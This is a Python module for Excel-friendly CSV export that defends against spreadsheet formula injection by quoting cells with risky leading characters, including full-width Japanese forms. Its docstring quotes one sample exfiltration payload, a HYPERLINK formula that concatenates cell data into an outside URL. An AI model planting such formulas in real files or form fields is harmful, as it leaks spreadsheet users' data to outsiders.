"""CSV for Excel in Japan: UTF-8 with a BOM, and no cell that a spreadsheet would run as a formula.

What people type reaches our exports: a requester named ``=HYPERLINK("http://…"&A2,"x")`` would be a live formula
in the staff's spreadsheet, able to send the row's other cells to anyone. Every CSV the app writes goes through
this module, which neutralises such cells the way OWASP recommends: a cell that begins with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return (or their full-width forms, which a Japanese input method types) gets a single
quote in front, so the spreadsheet shows it as text.
"""

import csv
from collections.abc import Iterable, Iterator

BOM = "\ufeff"  # Excel reads a CSV as UTF-8 only when it starts with one
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def neutralise(value: object) -> str:
    """The cell as text, with a quote in front when a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


class SpreadsheetWriter:
    """A ``csv.writer`` whose every cell has been through ``neutralise``."""

    def __init__(self, stream):
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[object]):
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def spreadsheet_writer(stream) -> SpreadsheetWriter:
    """For an ``HttpResponse`` or a file opened as text with ``newline=""``: the BOM now, then the rows."""
    stream.write(BOM)
    return SpreadsheetWriter(stream)


class _Line:
    def write(self, value: str) -> str:
        return value


def spreadsheet_lines(rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """For a ``StreamingHttpResponse``: the BOM, then each row as one line of CSV."""
    writer = SpreadsheetWriter(_Line())
    yield BOM
    for row in rows:
        yield writer.writerow(row)
